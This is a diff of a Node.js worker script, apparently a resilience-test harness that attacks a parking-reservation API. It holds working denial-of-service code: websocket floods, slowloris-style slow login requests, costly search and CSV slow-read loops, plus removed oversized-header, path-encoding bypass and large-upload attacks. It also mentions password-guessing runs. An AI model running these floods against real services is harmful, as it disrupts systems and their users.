@@ -1,19 +1,14 @@
 // One attacker with its own thread and address, until the thread is ended.
-import { execFileSync } from 'node:child_process';
-import { randomBytes } from 'node:crypto';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { Agent, request } from 'node:http';
 import { connect } from 'node:net';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { workerData } from 'node:worker_threads';
-import { gzipSync } from 'node:zlib';
 import { CARRIER, WRONG, logIn, logInWorking } from './logins.mjs';
+import { tomorrow } from './stores.mjs';
 
-const { attack, url, connections, localAddress } = workerData;
-const { token, ownerToken, teamToken, victim, own } = workerData;
+const { attack, url, localAddress, token, ownerToken, victim, own } = workerData;
 const { hostname, port } = new URL(url);
-const DAY_MS = 24 * 3_600_000;
+/** Of an attacker who opens as many as a network may. */
+const CONNECTIONS = 1000;
 
 /** Opens so many connections, each again a moment after it ends. */
 function connectTimes(count, open) {
@@ -39,29 +34,26 @@ connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r
 sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
 const FLOOD = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));
 
-/** Asks for unknown namespaces as fast as the connection takes it, and reads the answers or never does. */
-const flooding =
-  ({ greeting, reads }) =>
-  (socket) => {
-    const pour = () => {
-      while (!socket.destroyed && socket.write(FLOOD));
-    };
-    if (reads) socket.resume();
-    else socket.pause();
-    socket.write(UPGRADE);
-    if (greeting) socket.write(frame(greeting));
-    socket.on('drain', pour);
-    setTimeout(pour, reads ? 0 : 200);
+/** Asks for unknown namespaces as fast as the connection takes it, and never reads an answer. */
+const flooding = (greeting) => (socket) => {
+  const pour = () => {
+    while (!socket.destroyed && socket.write(FLOOD));
   };
+  socket.pause();
+  socket.write(UPGRADE);
+  if (greeting) socket.write(frame(greeting));
+  socket.on('drain', pour);
+  setTimeout(pour, 200);
+};
 
 /** One call; resolves when its answer has been read in whole, or failed. */
-function ask(path, { body, read = (answer) => answer.resume(), ...options }) {
+function ask(path, { read = (answer) => answer.resume(), ...options }) {
   return new Promise((done) => {
     const sent = request(url, { path, localAddress, ...options }, (answer) =>
       read(answer).on('close', done),
     );
     sent.on('error', done);
-    sent.end(body);
+    sent.end();
   });
 }
 
@@ -72,28 +64,6 @@ function forever(count, run) {
       for (let n = 0; ; n += 1) await run(n, client);
     })();
 }
-
-/** Most expensive searches: most parkings, longest stay, sorted; every other one with words. */
-function search(spelt) {
-  const agent = new Agent({ keepAlive: true });
-  forever(50, (n) => {
-    const start = Date.now() + DAY_MS;
-    const query = new URLSearchParams({
-      near: '14.6,-90.5',
-      start_time: new Date(start).toISOString(),
-      end_time: new Date(start + 30 * DAY_MS).toISOString(),
-      ...(n % 2 && { search: 'a e q u v 0' }),
-    });
-    const path = spelt(`/api/parking/available?${query}`, n);
-    return ask(path, { agent, headers: { authorization: token } });
-  });
-}
-/** Other spellings of a path, which a plain text comparison does not recognise. */
-const SPELLINGS = [
-  (path) => path.replace('/api', '/%61pi'),
-  (path) => `http://parqueo.gt${path}`,
-  (path) => path.replace('available', '%61vailable'),
-];
 
 /** Reads every list of a driver or of an owner by turns. */
 function readLists(clients, paths, headers) {
@@ -106,29 +76,15 @@ const OF_DRIVER =
 const OF_OWNER = 'parking/reservations parking/reservations?page=5 parking/my-parkings'.split(' ');
 const asOwner = { authorization: ownerToken };
 const asSheet = { ...asOwner, accept: 'text/csv' };
-/** The longest allowed header, whose types the server compares with its own. */
-const LONG = { ...asOwner, accept: `${'text/x;q=0.1,'.repeat(550)}application/json` };
-
-/** An archive of nearly the largest allowed upload, with every byte to unpack. */
-function largeArchive() {
-  const folder = mkdtempSync(join(tmpdir(), 'parqueo-archive-'));
-  writeFileSync(join(folder, 'manifest.json'), '{}');
-  writeFileSync(join(folder, 'map.js'), randomBytes(19 * 1024 * 1024));
-  const tar = execFileSync('tar', ['-c', '-C', folder, '.'], { maxBuffer: 2 ** 30 });
-  rmSync(folder, { recursive: true });
-  // Random bytes cannot be compressed.
-  return gzipSync(tar, { level: 0 });
-}
 
 const ATTACKS = {
   sockets() {
-    connectTimes(20, flooding({ greeting: `40${JSON.stringify({ token })}` }));
-    connectTimes(100, flooding({}));
+    connectTimes(20, flooding(`40${JSON.stringify({ token })}`));
+    connectTimes(100, flooding());
   },
-  namespaces: () => connectTimes(50, flooding({ reads: true })),
   /** Invalid tokens; who is refused connects again. */
   junk() {
-    connectTimes(connections, (socket) => {
+    connectTimes(CONNECTIONS, (socket) => {
       socket.write(UPGRADE);
       socket.write(frame('40{"token":"x.y.z"}'));
       let received = '';
@@ -142,21 +98,30 @@ const ATTACKS = {
   /** The headers of a login and then one byte a second. */
   slow() {
     const head = `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\n`;
-    connectTimes(connections, (socket) => {
+    connectTimes(CONNECTIONS, (socket) => {
       socket.write(`${head}content-type: application/json\r\ncontent-length: 1000\r\n\r\n{`);
       const timer = setInterval(() => socket.write(' '), 1000);
       socket.on('close', () => clearInterval(timer));
     });
   },
-  expensive: () => search((path) => path),
-  spellings: () => search((path, n) => SPELLINGS[n % SPELLINGS.length](path)),
+  /** Most parkings, longest stay, sorted; every other one with words. */
+  expensive() {
+    const agent = new Agent({ keepAlive: true });
+    const stay = `start_time=${tomorrow(0)}&end_time=${tomorrow(30 * 24)}`;
+    const path = `/api/parking/available?near=14.6,-90.5&${stay}`;
+    forever(50, (n) =>
+      ask(n % 2 ? `${path}&search=a+e+q+u+v+0` : path, {
+        agent,
+        headers: { authorization: token },
+      }),
+    );
+  },
   lists: () => readLists(12, OF_DRIVER.split(' '), { authorization: token }),
   sheets() {
     readLists(12, OF_OWNER, asOwner);
     // The server produces two spreadsheets at a time at most.
     readLists(2, OF_OWNER.slice(0, 1), asSheet);
   },
-  headers: () => readLists(12, OF_OWNER, LONG),
   /** Spreadsheets of which some kilobytes are taken each second. */
   csv() {
     const read = (answer) => {
@@ -165,12 +130,6 @@ const ATTACKS = {
     };
     const sheet = { agent: false, headers: asSheet, read };
     forever(50, () => ask('/api/parking/reservations', sheet));
-  },
-  /** Uploads of one team at once. */
-  uploads() {
-    const headers = { authorization: `Bearer ${teamToken}`, 'content-type': 'application/gzip' };
-    const upload = { method: 'POST', agent: false, headers, body: largeArchive() };
-    forever(30, () => ask('/api/registry/driver/builds', upload));
   },
   /**
    * Passwords at many accounts from one carrier's address; at one account from everywhere, as fast as possible and
